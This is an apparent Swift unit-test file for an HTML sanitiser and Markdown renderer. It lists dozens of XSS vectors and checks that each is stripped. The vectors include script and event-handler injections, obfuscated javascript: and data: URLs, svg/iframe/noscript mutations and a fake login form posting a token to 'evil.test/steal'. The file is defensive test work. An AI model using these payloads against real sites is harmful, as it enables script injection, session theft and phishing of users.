import Testing
@testable import PorticoRender

/// One hostile input and what must (not) be left of it.
struct Attack: CustomTestStringConvertible, Sendable {
    var name: String
    var input: String
    /// Substrings (case-insensitive) that must not appear in the output at all.
    var gone: [String] = []
    /// Substrings that must still appear (harmless text around the payload).
    var kept: [String] = []

    var testDescription: String { name }
}

/// Vectors from each XSS class, fed straight to the sanitiser and through Markdown.
let attacks: [Attack] = [
    // Script elements, however spelled or broken.
    Attack(name: "script element", input: "a<script>alert('x')</script>b", gone: ["<script", "alert"], kept: ["a", "b"]),
    Attack(name: "upper-case script with src", input: "<SCRIPT SRC=//evil.test/x.js></SCRIPT>ok", gone: ["<script", "evil.test"], kept: ["ok"]),
    Attack(name: "unclosed script", input: "before <script>alert(1)", gone: ["<script", "alert"], kept: ["before"]),
    Attack(name: "split script tag", input: "<scr<script>ipt>alert(1)</script>", gone: ["<script"]),
    Attack(name: "double angle script", input: "<<script>alert(1)//<</script>", gone: ["<script"]),
    Attack(name: "script after bogus attributes", input: "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">", gone: ["<script", "alert"]),
    Attack(name: "script inside comment", input: "<!--<script>alert(1)</script>-->x", gone: ["<script", "<!--"], kept: ["x"]),
    Attack(name: "comment closed the HTML5 way", input: "<!-- --!><script>alert(1)</script> -->after", gone: ["<script", "<!--"], kept: ["after"]),
    // Event handlers.
    Attack(name: "img onerror", input: "<img src=x onerror=\"alert('B06')\">", gone: ["onerror", "alert"], kept: ["<img src=\"x\">"]),
    Attack(name: "link onclick and onmouseover", input: "<a href=\"https://ok.test\" onclick=\"a()\" ONMOUSEOVER=b()>Docs</a>", gone: ["onclick", "onmouseover"], kept: ["Docs", "https://ok.test"]),
    Attack(name: "body onload", input: "<body onload=alert(1)>text</body>", gone: ["onload", "<body"], kept: ["text"]),
    Attack(name: "details ontoggle", input: "<details open ontoggle=alert(1)><summary>S</summary>D</details>", gone: ["ontoggle", "alert"], kept: ["<details>", "<summary>S</summary>"]),
    Attack(name: "quote break-out of a title", input: "<a href=\"https://ok.test/\" title='x\" onmouseover=\"alert(1)'>t</a>", kept: ["title=\"x&quot; onmouseover=&quot;alert(1)\""]),
    Attack(name: "style, id and name attributes", input: "<p style=\"background:url(javascript:alert(1))\" id=main name=n class=c>p</p>", gone: ["style", "id=", "name=", "class="], kept: ["<p>p</p>"]),
    // Dangerous URL schemes.
    Attack(name: "javascript href", input: "<a href=\"javascript:alert(1)\">x</a>", gone: ["javascript"], kept: ["<a>x</a>"]),
    Attack(name: "mixed-case scheme", input: "<a href=\"JaVaScRiPt:alert('B06')\">x</a>", gone: ["javascript"], kept: ["x"]),
    Attack(name: "leading spaces and controls", input: "<a href=\" \u{01}\u{0E} javascript:alert(1)\">x</a>", gone: ["javascript"]),
    Attack(name: "tab inside the scheme", input: "<a href=\"java\tscript:alert(1)\">x</a>", gone: ["script:"]),
    Attack(name: "newline inside the scheme", input: "<a href=\"java\nscript:alert(1)\">x</a>", gone: ["script:"]),
    Attack(name: "entity-encoded tab in the scheme", input: "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", gone: ["ascript"]),
    Attack(name: "fully entity-encoded scheme", input: "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", gone: ["alert", "&#"]),
    Attack(name: "hex entities without semicolons", input: "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>", gone: ["alert"]),
    Attack(name: "zero-padded entity without semicolon", input: "<a href=\"&#0000106avascript:alert(1)\">x</a>", gone: ["alert"]),
    Attack(name: "HTML5-only entities libxml2 does not know", input: "<a href=\"javascript&colon;alert(1)\">x</a><a href=\"java&Tab;script:alert(2)\">y</a>", gone: ["alert"]),
    Attack(name: "vbscript", input: "<a href=\"VBScript:MsgBox(1)\">x</a>", gone: ["vbscript", "msgbox"]),
    Attack(name: "data URL link", input: "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", gone: ["data:", "base64"]),
    Attack(name: "data URL image", input: "<img src=\"DATA:image/svg+xml,<svg onload=alert(1)>\" alt=a>", gone: ["data:", "onload"], kept: ["alt=\"a\""]),
    Attack(name: "unknown scheme", input: "<a href=\"file:///etc/passwd\">x</a><a href=\"ms-settings:x\">y</a>", gone: ["file:", "ms-settings"]),
    // Frames, styles, forms, plugins, foreign content, page-level elements.
    Attack(name: "iframe with javascript src", input: "<iframe src=\"javascript:alert('B06')\">fallback</iframe>x", gone: ["<iframe", "javascript", "fallback"], kept: ["x"]),
    Attack(name: "iframe srcdoc", input: "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", gone: ["<iframe", "srcdoc", "alert"]),
    Attack(name: "style element", input: "<style>body { display: none !important; }</style>visible", gone: ["<style", "display"], kept: ["visible"]),
    Attack(name: "stylesheet link", input: "<link rel=stylesheet href=\"https://evil.test/x.css\">x", gone: ["<link", "evil.test"], kept: ["x"]),
    Attack(name: "form with inputs", input: "<form action=\"https://evil.test/steal\"><input name=\"token\"><input type=hidden value=s><button formaction=\"javascript:alert(1)\">Log in again</button></form>", gone: ["<form", "evil.test", "<input", "<button", "formaction"], kept: ["Log in again"]),
    Attack(name: "textarea and select with their content", input: "<textarea><b>secret</b></textarea><select><option>o</option></select>end", gone: ["<textarea", "secret", "<select", "<option"], kept: ["end"]),
    Attack(name: "svg onload", input: "<svg onload=alert('B06')><circle r=1 /></svg>after", gone: ["<svg", "onload", "<circle"], kept: ["after"]),
    Attack(name: "script inside svg", input: "<svg><script>alert('B06')</script></svg>", gone: ["<svg", "<script", "alert"]),
    Attack(name: "svg link with xlink:href", input: "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", gone: ["javascript", "xlink"]),
    Attack(name: "math with action", input: "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>m</maction></math>", gone: ["<math", "javascript"]),
    Attack(name: "object and embed", input: "<object data=\"javascript:alert(1)\"><param name=a value=b>fallback</object><embed src=\"data:text/html,x\">end", gone: ["<object", "<embed", "<param", "javascript", "data:"], kept: ["end"]),
    Attack(name: "meta refresh", input: "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">after meta", gone: ["<meta", "refresh", "javascript"], kept: ["after meta"]),
    Attack(name: "base href", input: "<base href=\"https://evil.test/\">x", gone: ["<base", "evil.test"], kept: ["x"]),
    Attack(name: "template content", input: "<template><img src=x onerror=alert(1)></template>t", gone: ["<template", "<img", "onerror"], kept: ["t"]),
    Attack(name: "noscript mutation", input: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", gone: ["<noscript", "<img", "onerror"]),
    Attack(name: "frameset", input: "<frameset><frame src=\"javascript:alert(1)\"></frameset>", gone: ["<frame", "javascript"]),
    Attack(name: "meta charset cannot change decoding", input: "<meta charset=\"iso-8859-1\">héllo wörld", gone: ["<meta", "Ã"], kept: ["héllo wörld"]),
]

/// The HTML sanitiser on its own: the allow-list, attribute and URL policy.
@Suite("HTML sanitiser")
struct SanitizerTests {
    @Test("removes every XSS vector class", arguments: attacks)
    func removesAttack(_ attack: Attack) {
        let output = HTMLSanitizer.sanitize(attack.input)
        #expect(MarkupInspection.unsafeFindings(in: output) == [], "\(output)")
        for needle in attack.gone {
            #expect(!output.lowercased().contains(needle.lowercased()), "\(needle) survived in \(output)")
        }
        for needle in attack.kept {
            #expect(output.contains(needle), "\(needle) missing from \(output)")
        }
    }

    @Test("removes every XSS vector class when it arrives inside Markdown", arguments: attacks)
    func removesAttackInMarkdown(_ attack: Attack) {
        let output = MarkdownRenderer.html("Intro paragraph.\n\n" + attack.input + "\n\nOutro *paragraph*.")
        #expect(MarkupInspection.unsafeFindings(in: output) == [], "\(output)")
        // cmark shows some malformed tags as escaped text, which is acceptable: the
        // payload must only be absent from the markup itself.
        let markup = output.matches(of: #/<[^>]*>/#).map { String($0.0) }.joined().lowercased()
        for needle in attack.gone where needle != "<!--" {
            #expect(!markup.contains(needle.lowercased()), "\(needle) survived in \(output)")
        }
        #expect(output.contains("<em>paragraph</em>"))
    }

    @Test("keeps allow-listed markup with its allowed attributes")
    func keepsAllowedMarkup() {
        let input = """
            <h2>T</h2><p><strong>s</strong> <b>b</b> <em>e</em> <i>i</i> <del>d</del> <s>s</s> <kbd>K</kbd> x<sup>2</sup> H<sub>2</sub>O <span>sp</span></p>\
            <blockquote><p>q</p></blockquote><hr><dl><dt>t</dt><dd>d</dd></dl>\
            <ol start="3"><li>three</li></ol>\
            <table><thead><tr><th align="right" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2" align="left">c</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>\
            <img src="/img/a.png" alt="A" title="T" width="10" height="20">\
            <pre class="language-swift"><code class="language-swift">let x = 1</code></pre>\
            <details><summary>More</summary><div>hidden</div></details>
            """
        let output = HTMLSanitizer.sanitize(input)
        #expect(output == input)
        #expect(MarkupInspection.unsafeFindings(in: output) == [])
    }

    @Test("rejects attribute values outside their allowed shape", arguments: [
        ("<ol start=\"1; x\"><li>a</li></ol>", "<ol><li>a</li></ol>"),
        ("<td align=\"middle\" colspan=\"99999\">c</td>", "c"),
        ("<table><tr><td align=\"CENTER\" colspan=\" 2 \">c</td></tr></table>", "<table><tr><td align=\"center\" colspan=\"2\">c</td></tr></table>"),
        ("<img src=\"a.png\" width=\"50%\" height=\"1e9\">", "<img src=\"a.png\">"),
        ("<code class=\"hljs language-js\">x</code>", "<code>x</code>"),
        ("<code class=\"language-&quot;x\">x</code>", "<code>x</code>"),
        ("<code class=\"language-c++\">x</code>", "<code class=\"language-c++\">x</code>"),
        ("<span class=\"x\" title=\"t\" lang=\"en\" dir=\"rtl\">s</span>", "<span>s</span>"),
    ])
    func attributeShapes(input: String, expected: String) {
        #expect(HTMLSanitizer.sanitize(input).contains(expected), "\(HTMLSanitizer.sanitize(input))")
    }

    @Test("allows http, https, mailto, relative and fragment URLs", arguments: [
        "https://docs.example.test/a?b=1&c=2#d", "http://example.test", "mailto:team@example.test",
        "/docs/page", "page.html", "../up", "#section", "?q=1", "docs/page:1", "//cdn.example.test/x",
    ])
    func allowsSafeURL(_ url: String) {
        let output = HTMLSanitizer.sanitize("<a href=\"\(HTMLEscape.attribute(url))\">x</a>")
        let tag = MarkupInspection.tags(in: output).first { $0.name == "a" }
        #expect(tag?.attribute("href") == url, "\(output)")
    }

    @Test("adds rel=noopener noreferrer only to links that leave the site", arguments: [
        ("https://example.test", true), ("HTTP://example.test", true), ("//cdn.example.test", true),
        ("/relative", false), ("#top", false), ("mailto:a@example.test", false),
    ])
    func relOnExternalLinks(url: String, external: Bool) {
        let output = HTMLSanitizer.sanitize("<a href=\"\(url)\" rel=\"opener\" target=\"_blank\">x</a>")
        let tag = MarkupInspection.tags(in: output).first { $0.name == "a" }
        #expect(tag?.attribute("rel") == (external ? "noopener noreferrer" : nil), "\(output)")
        #expect(tag?.attribute("target") == nil)
    }

    @Test("keeps task-list checkboxes and drops every other input")
    func checkboxes() {
        let output = HTMLSanitizer.sanitize(
            "<input type=\"checkbox\" checked onclick=x name=n><input type=\"CHECKBOX\"><input type=\"text\" value=v><input>"
        )
        #expect(output == "<input type=\"checkbox\" checked=\"\" disabled=\"\"><input type=\"checkbox\" disabled=\"\">")
    }

    @Test("unwraps unknown elements but keeps their text")
    func unwrapsUnknownElements() {
        let output = HTMLSanitizer.sanitize("<p><font color=red>red</font> <marquee>moving</marquee> <custom-tag a=b>c</custom-tag></p>")
        #expect(output == "<p>red moving c</p>")
    }

    @Test("drops comments, processing instructions and doctypes")
    func dropsNonContentNodes() {
        let output = HTMLSanitizer.sanitize("<!DOCTYPE html><p>a<!-- hidden -->b<?php echo 1 ?>c</p>")
        #expect(output == "<p>abc</p>")
    }

    @Test("escapes text and decodes entities exactly once")
    func escapesText() {
        let output = HTMLSanitizer.sanitize("<p>1 &lt; 2 &amp;&amp; 3 > 2 &amp;lt;script&amp;gt; &copy; caf&eacute; \"q\" 'a'</p>")
        #expect(output == "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;lt;script&amp;gt; © café \"q\" 'a'</p>")
    }

    @Test("produces balanced output from broken markup")
    func balancesBrokenMarkup() {
        let output = HTMLSanitizer.sanitize("<div><p><b>open <i>nested</div></p></b> stray </span> tail")
        let tags = MarkupInspection.tags(in: output).filter { !["br", "hr", "img", "input"].contains($0.name) }
        var stack: [String] = []
        for tag in tags {
            if tag.isEnd { #expect(stack.popLast() == tag.name) } else { stack.append(tag.name) }
        }
        #expect(stack.isEmpty, "\(output)")
        #expect(output.contains("nested") && output.contains("tail"))
    }

    @Test("never emits carriage returns, NUL or other C0 controls")
    func noControlCharacters() {
        let input = "<p title=\"a\rb\">l1\r\nl2\rl3\u{0}\u{07}\u{1B}[31m &#13; &#x0D; &#0; &#7; &#x1b;</p><a href=\"/x\r\ny\" title=\"&#13;\">t</a>"
        let output = HTMLSanitizer.sanitize(input)
        #expect(MarkupInspection.unsafeFindings(in: output) == [], "\(output.debugDescription)")
        #expect(!output.contains("\r"))
        #expect(output.contains("l1\nl2\nl3"))
    }

    @Test("text without markup is escaped without parsing", arguments: ["", "plain", "a > b", "tab\tand\nnewline"])
    func plainFastPath(_ input: String) {
        #expect(HTMLSanitizer.sanitize(input) == HTMLEscape.text(input))
    }

    @Test("survives nesting far deeper than any real document")
    func deepNesting() {
        let depth = 50_000
        let input = String(repeating: "<div><b>", count: depth) + "core" + String(repeating: "</b></div>", count: depth)
        let output = HTMLSanitizer.sanitize(input)
        // libxml2 stops descending at its depth limit; what matters is no crash and
        // balanced, safe output.
        #expect(MarkupInspection.unsafeFindings(in: output) == [])
        #expect(output.hasPrefix("<div><b><div>"))
        #expect(output.hasSuffix("</div></b></div>"))
    }

    @Test("keeps non-ASCII text intact")
    func unicode() {
        let input = "<p>参数名称 — naïve 😀 \u{00A0}nbsp</p>"
        #expect(HTMLSanitizer.sanitize(input) == input)
    }
}
